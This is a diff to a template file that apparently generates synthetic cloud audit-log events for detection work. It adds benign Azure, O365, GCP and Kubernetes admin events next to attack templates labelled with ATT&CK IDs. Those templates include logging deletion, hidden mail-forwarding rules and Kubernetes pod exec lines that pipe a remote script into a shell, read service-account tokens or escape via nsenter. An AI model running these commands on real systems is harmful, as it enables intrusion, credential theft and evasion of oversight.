@@ -31,6 +31,19 @@ Microsoft.Authorization/roleAssignments/write {"role":"«Reader|Monitoring Reade
 Microsoft.RecoveryServices/vaults/«backupJobs/read|backupFabrics/protectionContainers/protectedItems/backup/action|write|backupPolicies/write|backupFabrics/backupProtectionIntent/write»
 Microsoft.Automation/automationAccounts/«jobs/write|runbooks/read|schedules/write|read»
 Microsoft.«Logic/workflows/run/action|Logic/workflows/write|ServiceBus/namespaces/write|EventHub/namespaces/write|Cache/redis/write|DocumentDB/databaseAccounts/listKeys/action|DocumentDB/databaseAccounts/write|Databricks/workspaces/write|CognitiveServices/accounts/write|OperationalInsights/workspaces/query/action|OperationalInsights/workspaces/sharedKeys/action|Advisor/generateRecommendations/action|Security/assessments/write|PolicyInsights/remediations/write|ManagedIdentity/userAssignedIdentities/write|Maintenance/configurationAssignments/write|Cdn/profiles/endpoints/purge/action|ApiManagement/service/write|DataFactory/factories/pipelines/write|Synapse/workspaces/write|Security/pricings/write»
+# azure sensitive calls in their place
+Microsoft.Insights/«diagnosticSettings|metricAlerts|actionGroups»/delete {"resourceGroup":"rg-pr-«num:1:900»"}
+Microsoft.Compute/virtualMachines/delete {"resourceGroup":"rg-dev-«word»"}
+Microsoft.Resources/subscriptions/resourceGroups/delete {"resourceGroup":"rg-pr-«num:1:900»"}
+Microsoft.Network/networkSecurityGroups/securityRules/delete {"rule":"allow-«tech»-temp"}
+Microsoft.Compute/virtualMachines/runCommand/action {"script":"«Get-Service|df -h|systemctl restart nginx»","commandId":"«RunPowerShellScript|RunShellScript»"}
+Microsoft.KeyVault/vaults/accessPolicies/write {"accessPolicies":[{"objectId":"«guid»","permissions":{"secrets":["get","list"]}}]}
+Microsoft.Security/pricings/write {"pricingTier":"Standard"}
+Microsoft.Authorization/locks/write {"level":"CanNotDelete"}
+Microsoft.Storage/storageAccounts/write {"allowBlobPublicAccess":false,"minimumTlsVersion":"TLS1_2","supportsHttpsTrafficOnly":true}
+Microsoft.Sql/servers/firewallRules/write {"startIpAddress":"«pub»","endIpAddress":"«pub»","name":"office"}
+Microsoft.RecoveryServices/vaults/backupconfig/write {"softDeleteFeatureState":"Enabled"}
+Microsoft.Storage/storageAccounts/regenerateKey/action {"keyName":"key«num:1:2»","reason":"rotation"}
 # T1562.008 azure logging removed
 Microsoft.Insights/diagnosticSettings/delete
 Microsoft.Insights/«activityLogAlerts|alertRules|actionGroups|logProfiles|metricAlerts|scheduledQueryRules|dataCollectionRules»/delete
@@ -146,6 +159,17 @@ Add-MailboxPermission {"Identity":"«dept»","User":"«other»","AccessRights":"
 «UserLoggedIn|UserLoginFailed|Update user.|Change user license.|Add member to group.|Add user.|Update device.|Update StsRefreshTokenValidFrom Timestamp.|Reset user password.|Set force change user password.» {"ResultStatusDetail":"Success","UserAgent":"«browser»"}
 «ViewedReport|ExportReport|CreateFlow|LaunchPowerApp|ViewDashboard|CreateForm|SubmitResponse|TaskCreated|ViewTile|GetGroups|RefreshDataset» {"ObjectName":"«Word» «word»"}
 «SearchCreated|SearchStarted|CaseAdded|AlertTriggered|AlertEntityGenerated|ComplianceSettingChanged» {"Case":"«Word»","Category":"DataGovernance"}
+# o365 administration in its place
+Set-Mailbox {"Identity":"«person»","ForwardingSmtpAddress":"smtp:«other»@«sitedomain»","DeliverToMailboxAndForward":"True"}
+New-InboxRule {"Name":"Vacation «Last»","ForwardTo":"«other»@«sitedomain»","From":"«first».«last»@«domain»"}
+New-TransportRule {"Name":"External mail banner","ApplyHtmlDisclaimerText":"This message comes from outside","FromScope":"NotInOrganization"}
+«Set-MalwareFilterPolicy|Set-HostedContentFilterPolicy|Set-AntiPhishPolicy|Set-SafeLinksPolicy» {"Identity":"Default","EnableFileFilter":"True","ZapEnabled":"True","EnableMailboxIntelligence":"True"}
+Set-AdminAuditLogConfig {"UnifiedAuditLogIngestionEnabled":"True"}
+Remove-InboxRule {"Identity":"«Word»"}
+Add-MailboxPermission {"Identity":"«dept»-shared","User":"«other»","AccessRights":"FullAccess","AutoMapping":"True"}
+New-ComplianceSearch {"Name":"HR case «num:100:999»","ContentMatchQuery":"subject:\"«Word» «word»\""}
+Set-CASMailbox {"Identity":"«person»","ImapEnabled":"False","PopEnabled":"False"}
+AnonymousLinkRemoved {"SourceFileName":"«file»"}
 # T1564.008 o365 hiding and forwarding rules
 New-InboxRule {"Name":"«.|..|a|,|«letters:1:2»|;|sy»","«DeleteMessage|MarkAsRead»":"True","SubjectOrBodyContainsWords":"«invoice;payment;bank|password;phish;hack;security|wire;transfer;IBAN|fraud;virus;helpdesk»","MoveToFolder":"«RSS Feeds|RSS Subscriptions|Conversation History|Archive|Deleted Items|Notes»"}
 «New-InboxRule|Set-InboxRule|UpdateInboxRules» {"Name":"«.|«letters:2»|fwd»","ForwardTo":"«letters:8»«num:10:99»@«gmail.com|protonmail.com|outlook.com|mail.ru|«domain»»","«StopProcessingRules|DeleteMessage»":"True"}
@@ -199,6 +223,14 @@ google.cloud.«run.v1.Services.ReplaceService|functions.v1.CloudFunctionsService
 SetIamPolicy {"service":"cloudresourcemanager","bindingDeltas":[{"action":"ADD","role":"roles/«viewer|logging.viewer|storage.objectViewer|monitoring.viewer|run.invoker|bigquery.dataViewer»","member":"«user|group|serviceAccount»:«person»@«sitedomain»"}]}
 google.login.LoginService.«loginSuccess|loginVerification|logout» {"service":"login"}
 cloudsql.instances.«connect|backup|query» {"service":"cloudsql"}
+# gcp sensitive calls in their place
+google.logging.v2.ConfigServiceV2.UpdateSink {"service":"logging","sinkName":"projects/«project»/sinks/archive","filter":"","disabled":false}
+google.iam.admin.v1.«DeleteServiceAccountKey|DisableServiceAccount|PatchServiceAccount» {"service":"iam","name":"projects/-/serviceAccounts/«word»@«project».iam.gserviceaccount.com"}
+GenerateAccessToken {"service":"iamcredentials","name":"projects/-/serviceAccounts/ci@«project».iam.gserviceaccount.com","lifetime":"3600s"}
+storage.setIamPermissions {"service":"storage","bindingDeltas":[{"action":"«ADD|REMOVE»","role":"roles/storage.objectViewer","member":"serviceAccount:«word»@«project».iam.gserviceaccount.com"}]}
+v1.compute.firewalls.«delete|patch» {"service":"compute","name":"pr-«num:1:900»","sourceRanges":["10.«num:0:255».0.0/16"]}
+v1.compute.instances.setMetadata {"service":"compute","metadata":{"items":[{"key":"enable-oslogin","value":"TRUE"}]}}
+google.cloud.kms.v1.KeyManagementService.«Encrypt|CreateCryptoKeyVersion» {"service":"cloudkms"}
 # T1562.008 gcp logging removed
 google.logging.v2.ConfigServiceV2.«DeleteSink|UpdateSink|DeleteBucket|DeleteLog|CreateExclusion|UpdateBucket|UndeleteBucket» {"service":"logging","sinkName":"projects/«project»/sinks/«word»","filter":"«|severity>ERROR»","disabled":true}
 google.logging.v2.«LoggingServiceV2.DeleteLog|MetricsServiceV2.DeleteLogMetric» {"service":"logging"}
@@ -244,6 +276,15 @@ create pods/exec {"name":"«word»-«hex:5»","namespace":"dev","uri":"command=�
 create rolebindings {"request":{"roleRef":{"kind":"Role","name":"«view|edit|pod-reader»"},"subjects":[{"kind":"Group","name":"«dept»"}]}}
 create roles {"request":{"rules":[{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list"]}]}}
 create secrets {"request":{"type":"kubernetes.io/tls","metadata":{"name":"«word»-tls"}}}
+# k8s probes without a name
+get healthz {"_user":"anonymous","namespace":"","name":"«livez|readyz|healthz|version»"}
+create services {"request":{"spec":{"type":"«ClusterIP|LoadBalancer|NodePort»","ports":[{"port":«num:80:9000»,"targetPort":«num:1000:9000»}]}}}
+create networkpolicies {"request":{"spec":{"podSelector":{},"policyTypes":["Ingress"]}}}
+create clusterrolebindings {"request":{"roleRef":{"kind":"ClusterRole","name":"«view|system:auth-delegator|prometheus»"},"subjects":[{"kind":"ServiceAccount","name":"«word»"}]}}
+create daemonsets {"request":{"spec":{"containers":[{"name":"«fluentd|node-exporter|datadog-agent|kube-proxy»","image":"«quay.io/prometheus/node-exporter:v1.«num:3:8».0|gcr.io/datadoghq/agent:7»","securityContext":{"runAsNonRoot":true,"readOnlyRootFilesystem":true}}]}},"namespace":"monitoring"}
+delete «namespaces|networkpolicies|clusterrolebindings» {"name":"pr-«num:1:900»"}
+list pods {} ! 403
+get secrets {"name":"sh.helm.release.v1.«word».v«num:1:30»"}
 # T1609 k8s commands in containers
 create pods/exec {"name":"«word»-«hex:5»","namespace":"«prod|kube-system|default»","uri":"command=«sh&command=-c&command=curl%20http://«peer»/«letters:3».sh|/bin/bash&command=-i|cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token|sh&command=-c&command=wget%20-qO-%20«peer»|nsenter&command=--target&command=1&command=--mount»","_agent":"odd"}
 «get|create» nodes/proxy {"name":"«linux»","_agent":"odd","uri":"exec/kube-system/«word»/sh"}
